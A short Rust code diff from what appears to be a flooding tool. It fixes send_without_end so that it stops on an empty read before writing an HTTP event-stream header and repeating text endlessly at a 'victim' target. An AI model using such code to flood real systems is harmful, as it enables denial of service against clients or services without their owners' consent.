@@ -82,7 +82,9 @@ fn flood_over_http(victim: &Target, name: &str, text: &'static str) -> Result<()
 }
 
 fn send_without_end(mut stream: TcpStream, text: &str, sent: &AtomicU64) -> Option<()> {
-    stream.read(&mut [0; 4096]).ok()?;
+    if stream.read(&mut [0; 4096]).ok()? == 0 {
+        return None;
+    }
     let coding = if text.contains('\r') { "Transfer-Encoding: chunked\r\n" } else { "" };
     write!(stream, "HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\n{coding}\r\n").ok()?;
     let part = text.repeat(1000);
